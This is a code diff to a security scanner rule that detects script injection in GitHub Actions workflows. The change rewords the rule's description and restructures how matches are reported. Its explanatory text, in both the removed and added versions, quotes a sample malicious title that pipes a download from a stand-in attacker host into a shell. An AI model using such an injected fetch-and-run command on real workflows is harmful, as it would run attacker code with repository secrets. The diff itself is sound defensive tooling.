@@ -1,14 +1,27 @@
+import { z } from 'zod'
 import { exampleFiles } from '../../example-files.ts'
-import type { WordyConfigurationRule, Remark } from '../../remark.ts'
+import type { RuleMatch } from '../../rule-match.ts'
+import { type ScalarValue, textOf, under, type Value } from '../../../inventory/settings-files/value.ts'
+import { defineConfigurationRule } from '../configuration-rule.ts'
 import type { SettingsFile } from '../settings-file.ts'
-import { entriesOf, type ScalarValue, textOf, under, type Value } from '../../../inventory/settings-files/value.ts'
-import { expressionsIn, wordsIn } from './expressions.ts'
-import { type Job, privilegedOf, type Step, type Workflow, workflowOf } from './workflow.ts'
+import { injectedInputs, scriptsOf, untrustedVariables } from './injected-input.ts'
+import { type Job, privilegedTriggersOf, type Workflow, workflowOf } from './workflow.ts'
 
-export const workflowScriptInjection: WordyConfigurationRule = {
+const InjectionArguments = z.object({
+  job: z.string(),
+  input: z.string(),
+  use: z.enum(['inserted', 'evaluated']),
+  /** `anyone`: can open an issue, for example. `contributor`: opens a pull request or writes a commit. */
+  author: z.enum(['anyone', 'contributor']),
+  /** Events whose run has secrets and a writing token. */
+  privilegedTriggers: z.array(z.string()),
+})
+type InjectionMatch = RuleMatch & { readonly arguments: z.infer<typeof InjectionArguments> }
+
+export const workflowScriptInjection = defineConfigurationRule({
   document: {
     id: 'workflow-script-injection',
-    title: 'Words of strangers become part of a script in a workflow',
+    title: 'Script injection in a GitHub Actions workflow: untrusted input becomes part of a script',
     category: 'configuration',
     severity: 'high',
     precision: 'medium',
@@ -16,14 +29,14 @@ export const workflowScriptInjection: WordyConfigurationRule = {
     owaspMcp: ['MCP04:2025', 'MCP05:2025'],
     safeMcp: ['SAFE-T1002'],
     what:
-      'A workflow of GitHub puts a title, a text or a branch name that anybody may choose into a script with ' +
-      '`${{ … }}`, directly or by way of `env`. Such expressions are filled in before the script is read.',
+      'A workflow inserts a title, text, or branch name of an untrusted user into a script with `${{ … }}`, directly ' +
+      'or through `env`. GitHub inserts the value before the script is parsed.',
     why:
-      'A title such as `"; curl evil.example | sh; "` becomes commands. They run with the token and, in most ' +
-      "of these events, with the secrets of the repository: what it publishes is then the stranger's.",
+      'A title such as `"; curl evil.example | sh; "` becomes commands. They run with the token and, for most of ' +
+      'these events, with the secrets of the repository.',
     remediation:
-      'Hand the value over in `env:` and use it as a variable of the shell in quotes: `env: { TITLE: ${{ ' +
-      'github.event.issue.title }} }` and `"$TITLE"`.',
+      'Pass the value in `env:` and use the quoted shell variable: `env: { TITLE: ${{ github.event.issue.title }} }` ' +
+      'and `"$TITLE"`.',
     examples: {
       bad: [
         exampleFiles({
@@ -55,116 +68,62 @@ export const workflowScriptInjection: WordyConfigurationRule = {
     },
   },
   kinds: ['workflow', 'action'],
+  arguments: InjectionArguments,
+  describe({ job, input, use, author, privilegedTriggers }, { location }) {
+    const injected =
+      use === 'inserted'
+        ? `inserts \`${input}\` into a script before the script is parsed`
+        : `runs the value of the variable \`${input}\` as code`
+    const choice =
+      author === 'anyone'
+        ? 'Anyone can choose this value.'
+        : 'Authors of pull requests and commits can choose this value.'
+    const consequence =
+      privilegedTriggers.length > 0
+        ? `On ${privilegedTriggers.join(' and ')}, injected commands run with the token and secrets of the repository.`
+        : 'Injected commands run with the permissions of this run.'
+    return {
+      title: `Script injection through ${input} in ${location?.path ?? 'a workflow'}`,
+      message: `The job "${job}" ${injected}. ${choice} ${consequence}`,
+    }
+  },
   *find(file) {
     const workflow = workflowOf(file)
     for (const job of workflow.jobs) {
       for (const step of job.steps) {
-        const tainted = [workflow.env, under(job.value, 'env'), under(step.value, 'env')].map(namesOfStrangersWords)
+        const variables = [workflow.env, under(job.value, 'env'), under(step.value, 'env')].map(untrustedVariables)
         for (const script of scriptsOf(step))
-          yield* injected(file, workflow, job, script, (name) => tainted.some((names) => names.has(name)))
+          yield* injections(file, workflow, job, script, (name) => variables.some((names) => names.has(name)))
       }
     }
   },
-}
+})
 
-/** Inputs of actions that are scripts or commands, such as `script` of `actions/github-script`. */
-const scriptInput = /^(?:script|run|inline-?script|commands?|cmd|bash|shell-?command|code)$/i
-
-const scriptsOf = ({ run, with: inputs }: Step): ScalarValue[] => [
-  ...(run ? [run] : []),
-  ...inputs.flatMap(({ key, value }) => (scriptInput.test(key) && value.kind === 'scalar' ? [value] : [])),
-]
-
-/**
- * What is known of a mapping of variables and of a script: thousands of steps may have the same ones, and looking takes
- * time.
- */
-const namesOf = new WeakMap<Value, ReadonlySet<string>>()
-const wordsOf = new WeakMap<ScalarValue, readonly PutIn[]>()
-
-function namesOfStrangersWords(env: Value | undefined): ReadonlySet<string> {
-  if (!env) return new Set()
-  const names =
-    namesOf.get(env) ??
-    new Set(
-      entriesOf(env)
-        .filter(({ value }) =>
-          expressionsIn(textOf(value) ?? '').some((expression) => wordsIn(expression).strangers !== undefined),
-        )
-        .map(({ key }) => key),
-    )
-  namesOf.set(env, names)
-  return names
-}
-
-function* injected(
+function* injections(
   file: SettingsFile,
   workflow: Workflow,
   { id, permissions }: Job,
   script: ScalarValue,
-  isTainted: (name: string) => boolean,
-): Generator<Remark> {
-  for (const { words, text, variable } of injections(script)) {
-    if (variable !== undefined && !isTainted(variable)) continue
-    const privileged = privilegedOf(workflow)
-    const harmless = isHarmless(
-      textOf((permissions ?? workflow.permissions)?.value),
-      permissions ?? workflow.permissions,
-    )
-    const rights = privileged.length > 0 && !harmless
+  isUntrusted: (name: string) => boolean,
+): Generator<InjectionMatch> {
+  for (const { input, use, text, variable } of injectedInputs(script)) {
+    if (variable !== undefined && !isUntrusted(variable)) continue
+    const triggers = privilegedTriggersOf(workflow)
+    const privilegedTriggers = isReadOnly((permissions ?? workflow.permissions)?.value) ? [] : triggers
     yield {
-      title: `\`${words}\` becomes part of a script in ${file.path}`,
-      message:
-        `The job ${id} puts \`${words}\`, which ` +
-        `${privileged.length > 0 ? 'anybody' : 'whoever opens a pull request or writes a commit'} may choose, ` +
-        'into a script before it is read. ' +
-        `${
-          rights
-            ? `On ${privileged.join(' and ')} it runs with the token and the secrets of the repository.`
-            : 'What it starts runs with what this run may do.'
-        }`,
-      subject: `${id} ${words}`,
+      arguments: { job: id, input, use, author: triggers.length > 0 ? 'anyone' : 'contributor', privilegedTriggers },
+      subject: `${id} ${input}`,
       at: file.placeAt(file.offsetOf(text, script.offset)),
-      severity: rights ? 'high' : 'medium',
+      severity: privilegedTriggers.length > 0 ? 'high' : 'medium',
     }
   }
 }
 
-/** Words that a script is made of. */
-interface PutIn {
-  readonly words: string
-  /** As it is written. */
-  readonly text: string
-  /** They are a stranger's only if this variable holds such. */
-  readonly variable?: string
-}
-
-/** Words in a script, once each: those that an expression puts in, and variables that the script evaluates again. */
-function injections(script: ScalarValue): readonly PutIn[] {
-  const known = wordsOf.get(script)
-  if (known) return known
-  const found = new Map<string, PutIn>()
-  for (const expression of expressionsIn(script.text)) {
-    const { strangers, variable } = wordsIn(expression)
-    const words = strangers ?? (variable === undefined ? undefined : `env.${variable}`)
-    if (words !== undefined && !found.has(words))
-      found.set(words, { words, text: expression.text, ...(variable !== undefined && { variable }) })
-  }
-  for (const [text, name = ''] of script.text.matchAll(
-    /\b(?:eval|(?:ba|z|da)?sh -c)\s[^\n]{0,200}?\$\{?(\w{1,100})/g,
-  )) {
-    if (!found.has(name)) found.set(name, { words: name, text, variable: name })
-  }
-  const words = [...found.values()]
-  wordsOf.set(script, words)
-  return words
-}
-
-/** Without any right of the token: `permissions: {}` or `read-all`. Secrets of its own a job may still have. */
-function isHarmless(text: string | undefined, permissions: { readonly value: Value } | undefined): boolean {
+/** Whether the token cannot write: `permissions: {}` or `read-all`. The job may still use secrets. */
+function isReadOnly(permissions: Value | undefined): boolean {
   return (
-    text === 'read-all' ||
-    (permissions?.value.kind === 'mapping' &&
-      permissions.value.entries.every(({ value }) => /^(?:read|none)$/.test(textOf(value) ?? '')))
+    textOf(permissions) === 'read-all' ||
+    (permissions?.kind === 'mapping' &&
+      permissions.entries.every(({ value }) => /^(?:read|none)$/.test(textOf(value) ?? '')))
   )
 }
